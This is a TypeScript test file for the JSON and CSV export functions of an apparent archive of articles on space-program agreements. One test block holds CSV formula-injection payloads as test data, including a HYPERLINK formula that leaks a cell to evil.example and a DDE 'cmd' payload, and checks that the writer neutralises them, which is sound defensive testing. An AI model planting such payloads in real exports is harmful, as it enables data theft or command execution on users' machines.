import { fc, test } from '@fast-check/vitest';
import { describe, expect, it } from 'vitest';
import { buildArchive } from '../../src/domain/archive.ts';
import {
  AGREEMENT_CSV_COLUMNS,
  agreementsCsv,
  agreementsJson,
  articlesJson,
  exportAgreement,
  exportArticle,
} from '../../src/output/exports.ts';
import { csvDocument } from '../../src/output/safe-text.ts';
import { absoluteUrl, urls } from '../../src/output/urls.ts';
import { agreementMention, archiveInput, articleRecord } from './_fixtures.ts';

const articleUrl = (id: string) => absoluteUrl(urls.article(id));
const agreementUrl = (id: string) => absoluteUrl(urls.agreement(id));

const tokyo = articleRecord('2022/tokyo', {
  title: 'Biden and Kishida meet in Tokyo',
  description: 'Leaders agree to work together on the Gateway.',
  date: '2022-05-23',
  updated: '2022-05-25',
  summit: 'tokyo-2022',
  leaders: ['joe-biden', 'fumio-kishida'],
  countries: ['united-states', 'japan'],
  programs: ['lunar-gateway'],
  agreements: [
    agreementMention('us-japan-statement', {
      title: 'U.S.–Japan joint statement',
      programs: ['lunar-gateway'],
      note: 'Issued after the talks.',
    }),
  ],
  source: { publication: 'SpaceNews', author: 'Jeff Foust', url: 'https://spacenews.com/tokyo/' },
});
const signing = articleRecord('2022/signing', {
  title: 'Statement signed',
  date: '2022-07-01',
  agreements: [agreementMention('us-japan-statement', { status: 'signed', date: '2022-06-30', programs: ['artemis'] })],
});
const plain = articleRecord('2021/plain', { date: '2021-11-30', countries: ['japan'] });

const archive = buildArchive(archiveInput([plain, tokyo, signing]));

describe('exportArticle', () => {
  it('exports every field, with an absolute URL', () => {
    expect(exportArticle(tokyo)).toEqual({
      id: '2022/tokyo',
      url: articleUrl('2022/tokyo'),
      title: 'Biden and Kishida meet in Tokyo',
      description: 'Leaders agree to work together on the Gateway.',
      date: '2022-05-23',
      updated: '2022-05-25',
      summit: 'tokyo-2022',
      leaders: ['joe-biden', 'fumio-kishida'],
      countries: ['united-states', 'japan'],
      programs: ['lunar-gateway'],
      agreements: ['us-japan-statement'],
      source: { publication: 'SpaceNews', author: 'Jeff Foust', url: 'https://spacenews.com/tokyo/' },
    });
  });

  it('gives null for each absent optional field, never leaving the key out', () => {
    const exported = exportArticle(plain);
    expect(exported.updated).toBeNull();
    expect(exported.summit).toBeNull();
    expect(exported.source).toEqual({ publication: 'SpaceNews', author: null, url: null });
    expect(JSON.parse(JSON.stringify(exported))).toStrictEqual(exported);
  });

  it('gives a URL with the site origin and the base', () => {
    const { url } = exportArticle(tokyo);
    expect(url).toMatch(/^https?:\/\//);
    expect(new URL(url).pathname).toBe(urls.article('2022/tokyo'));
    expect(url.endsWith('/articles/2022/tokyo/')).toBe(true);
  });

  it('does not share its lists with the article', () => {
    const exported = exportArticle(tokyo);
    exported.leaders.push('someone');
    exported.countries.push('somewhere');
    expect(tokyo.leaders).toEqual(['joe-biden', 'fumio-kishida']);
    expect(tokyo.countries).toEqual(['united-states', 'japan']);
  });
});

describe('exportAgreement', () => {
  it('exports the agreement with its latest status and every report, oldest first', () => {
    expect(exportAgreement(archive.agreement('us-japan-statement')!)).toEqual({
      id: 'us-japan-statement',
      url: agreementUrl('us-japan-statement'),
      title: 'U.S.–Japan joint statement',
      kind: 'joint-statement',
      parties: ['japan', 'united-states'],
      programs: ['artemis', 'lunar-gateway'],
      latestStatus: 'signed',
      latestDate: '2022-06-30',
      history: [
        {
          date: '2022-05-23',
          dated: false,
          status: 'announced',
          note: 'Issued after the talks.',
          article: {
            id: '2022/tokyo',
            url: articleUrl('2022/tokyo'),
            title: 'Biden and Kishida meet in Tokyo',
            date: '2022-05-23',
          },
        },
        {
          date: '2022-06-30',
          dated: true,
          status: 'signed',
          note: null,
          article: {
            id: '2022/signing',
            url: articleUrl('2022/signing'),
            title: 'Statement signed',
            date: '2022-07-01',
          },
        },
      ],
    });
  });

  it('gives absolute URLs with the base for the agreement and its reports', () => {
    const exported = exportAgreement(archive.agreement('us-japan-statement')!);
    expect(new URL(exported.url).pathname).toBe(urls.agreement('us-japan-statement'));
    expect(new URL(exported.history[0]!.article.url).pathname).toBe(urls.article('2022/tokyo'));
  });
});

describe('articlesJson and agreementsJson', () => {
  it('round-trips the articles, newest first, through JSON.parse', () => {
    const parsed: unknown = JSON.parse(articlesJson(archive));
    expect(parsed).toEqual({ articles: [exportArticle(signing), exportArticle(tokyo), exportArticle(plain)] });
  });

  it('round-trips the agreements through JSON.parse, nulls included', () => {
    const parsed = JSON.parse(agreementsJson(archive)) as { agreements: unknown[] };
    expect(parsed).toEqual({ agreements: [exportAgreement(archive.agreement('us-japan-statement')!)] });
    expect(JSON.stringify(parsed)).toContain('"note":null');
  });

  it('ends each file with a newline', () => {
    expect(articlesJson(archive).endsWith('}\n')).toBe(true);
    expect(agreementsJson(archive).endsWith('}\n')).toBe(true);
  });

  it('writes empty lists for an empty archive', () => {
    const empty = buildArchive(archiveInput([]));
    expect(JSON.parse(articlesJson(empty))).toEqual({ articles: [] });
    expect(JSON.parse(agreementsJson(empty))).toEqual({ agreements: [] });
  });
});

describe('agreementsCsv', () => {
  const header = '"id","title","kind","parties","programs","latest_status","latest_date","reports","url"';

  it('starts with the header row of the documented columns', () => {
    expect(AGREEMENT_CSV_COLUMNS).toEqual([
      'id',
      'title',
      'kind',
      'parties',
      'programs',
      'latest_status',
      'latest_date',
      'reports',
      'url',
    ]);
    expect(agreementsCsv(archive).split('\r\n')[0]).toBe(header);
  });

  it('writes one quoted row per agreement, most recently active first, lists joined with ";"', () => {
    const quoted = articleRecord('2023/pledge', {
      date: '2023-01-10',
      agreements: [
        agreementMention('artemis-pledge', {
          title: 'The "Artemis, Gateway" pledge',
          kind: 'pledge',
          parties: ['japan', 'south-korea', 'united-states'],
          programs: ['artemis', 'lunar-gateway'],
          status: 'in-force',
        }),
      ],
    });
    const csv = agreementsCsv(buildArchive(archiveInput([tokyo, signing, quoted])));
    expect(csv).toBe(
      [
        header,
        `"artemis-pledge","The ""Artemis, Gateway"" pledge","pledge","japan;south-korea;united-states","artemis;lunar-gateway","in-force","2023-01-10","1","${agreementUrl('artemis-pledge')}"`,
        `"us-japan-statement","U.S.–Japan joint statement","joint-statement","japan;united-states","artemis;lunar-gateway","signed","2022-06-30","2","${agreementUrl('us-japan-statement')}"`,
        '',
      ].join('\r\n'),
    );
  });

  it('ends every line with CRLF and has no bare line feed', () => {
    const csv = agreementsCsv(archive);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
    expect(csv.split('\r\n')).toHaveLength(3); // header, one agreement, the empty string after the last CRLF
  });

  it('counts the distinct articles reporting an agreement, not the reports', () => {
    const twice = articleRecord('2022/twice', {
      date: '2022-05-23',
      agreements: [
        agreementMention('x', { status: 'announced', date: '2022-01' }),
        agreementMention('x', { status: 'signed', date: '2022-05-20' }),
      ],
    });
    const once = articleRecord('2022/once', {
      date: '2022-06-01',
      agreements: [agreementMention('x', { status: 'in-force' })],
    });
    const built = buildArchive(archiveInput([twice, once]));
    expect(built.agreement('x')?.history).toHaveLength(3);
    const [, row] = agreementsCsv(built).split('\r\n');
    expect(row?.split('","')[7]).toBe('2');
  });

  it('is only the header for an archive without agreements', () => {
    expect(agreementsCsv(buildArchive(archiveInput([plain])))).toBe(`${header}\r\n`);
  });
});

/**
 * RFC 4180 as the README promises it, strictly: every field quoted, quotes doubled, CRLF after
 * every record. Throws on anything else.
 */
function readCsv(csv: string): string[][] {
  const rows: string[][] = [];
  let at = 0;
  while (at < csv.length) {
    const row: string[] = [];
    for (;;) {
      if (csv[at] !== '"') throw new Error(`unquoted field at ${at}`);
      let field = '';
      at += 1;
      for (;;) {
        const quote = csv.indexOf('"', at);
        if (quote < 0) throw new Error('unterminated field');
        field += csv.slice(at, quote);
        at = quote + 1;
        if (csv[at] !== '"') break;
        field += '"';
        at += 1;
      }
      row.push(field);
      if (csv[at] === ',') at += 1;
      else if (csv.startsWith('\r\n', at)) break;
      else throw new Error(`expected "," or CRLF at ${at}`);
    }
    at += 2;
    rows.push(row);
  }
  return rows;
}

/** What a cell must read as: OWASP's formula starters (= + - @ tab CR) get a leading '. */
const inert = (value: string) => (/^[=+\-@\t\r]/.test(value) ? `'${value}` : value);

/** Any Unicode string, lone surrogates included, often starting like a formula. */
const cellText = fc.oneof(
  fc.string({ unit: 'binary' }),
  fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r'), fc.string({ unit: 'binary' })).map(([a, b]) => a + b),
);

describe('CSV injection (OWASP) and RFC 4180 in the one CSV writer', () => {
  const titleCell = (title: string) => {
    const article = articleRecord('2022/x', { agreements: [agreementMention('x', { title })] });
    const rows = readCsv(agreementsCsv(buildArchive(archiveInput([article]))));
    expect(rows).toHaveLength(2);
    for (const row of rows) expect(row).toHaveLength(AGREEMENT_CSV_COLUMNS.length);
    return rows[1]![1];
  };

  it.each([
    ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', `'=HYPERLINK("https://evil.example/?leak="&A1,"Click")`],
    ['=1+1', "'=1+1"],
    ['+1+1', "'+1+1"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ['@SUM(1+1)', "'@SUM(1+1)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['\r\n=1+1', "'\r\n=1+1"],
  ])('neutralises a title starting like a formula: %j', (title, cell) => {
    expect(titleCell(title)).toBe(cell);
  });

  it.each([
    'U.S.–Japan joint statement',
    'The "Artemis, Gateway" pledge',
    'Two\nlines, and a "quote"',
    'Ends with a quote"',
    "'already quoted",
    ' =not at the start',
    'Accord = 1+1 @ Seoul - Tokyo',
    '',
  ])('keeps any other title as it is: %j', (title) => {
    expect(titleCell(title)).toBe(title);
  });

  test.prop([cellText], { numRuns: 200 })('reads back every agreement title, neutralised', (title) => {
    expect(titleCell(title)).toBe(inert(title));
  });

  test.prop([fc.array(fc.array(cellText, { minLength: 1, maxLength: 6 }), { maxLength: 6 })], { numRuns: 200 })(
    'writes any rows so that an RFC 4180 reader gets them back, no cell starting like a formula',
    (rows) => {
      const read = readCsv(csvDocument(rows));
      expect(read).toEqual(rows.map((row) => row.map(inert)));
      for (const cell of read.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    },
  );
});

describe('JSON exports for any text', () => {
  test.prop([fc.string({ unit: 'binary' }), fc.string({ unit: 'binary' })], { numRuns: 200 })(
    'parse back to the same strings, lone surrogates escaped rather than lost',
    (title, note) => {
      const article = articleRecord('2022/x', { title, agreements: [agreementMention('x', { title, note })] });
      const built = buildArchive(archiveInput([article]));
      for (const json of [articlesJson(built), agreementsJson(built)]) {
        // A lone surrogate written as UTF-8 would become U+FFFD; JSON.stringify escapes it instead.
        expect(json.isWellFormed()).toBe(true);
      }
      expect(JSON.parse(articlesJson(built))).toEqual({ articles: [exportArticle(article)] });
      expect(JSON.parse(agreementsJson(built))).toEqual({ agreements: [exportAgreement(built.agreement('x')!)] });
    },
  );

  it('escapes a lone surrogate as \\ud800', () => {
    const article = articleRecord('2022/x', { title: 'half \uD800 a pair' });
    expect(articlesJson(buildArchive(archiveInput([article])))).toContain('"title": "half \\ud800 a pair"');
  });
});
